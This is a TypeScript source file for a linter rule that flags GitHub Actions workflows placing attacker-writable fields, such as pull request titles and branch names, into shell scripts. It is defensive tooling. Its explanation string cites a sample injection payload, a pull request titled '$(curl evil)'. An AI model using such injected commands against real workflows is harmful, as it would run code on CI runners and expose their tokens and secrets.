import { syntaxRule } from '../Rule';
import { listExpressions } from './listExpressions';
import { listReads } from './listReads';
import { listScripts } from './listScripts';

/** What anybody can write who may open an issue or a pull request, as `listReads` spells it. */
const WRITTEN_BY_STRANGERS = [
  /^github\.head_ref$/i,
  /^github\.event\.(?!inputs\.).*\b(?:title|body|message|page_name|display_title)$/i,
  /^github\.event\..*\bhead\.(?:ref|label|repo\.(?:default_branch|description|homepage))$/i,
  /^github\.event\.workflow_run\.head_branch$/i,
  /^github\.event\..*\b(?:author|committer)\.(?:name|email)$/i,
  // Everything at once, as toJSON() takes it.
  /^github(?:\.event(?:\.(?:issue|pull_request|comment|review|discussion|head_commit|commits))?)?$/i,
];

/** GitHub puts an expression's text into the script before the shell reads it. */
export const workflowScriptInjection = syntaxRule({
  id: 'workflow-script-injection',
  severity: 'error',
  title: 'No workflow puts text of strangers into a script',
  why: 'GitHub replaces the expression before the shell starts: a pull request titled `$(curl evil)` runs on the runner, with its token and its secrets.',
  on: ['workflow'],
  inspect: workflow =>
    listScripts(workflow).flatMap(({ text }) =>
      listExpressions(text).flatMap(({ text: expression, line }) => {
        const read = listReads(expression).find(path =>
          WRITTEN_BY_STRANGERS.some(pattern => pattern.test(path)),
        );
        if (!read) return [];
        return [
          {
            line,
            message: `the script contains ${read}, which anybody can write`,
            fix: 'Pass it in an environment variable of the step, and quote the variable in the script.',
          },
        ];
      }),
    ),
});
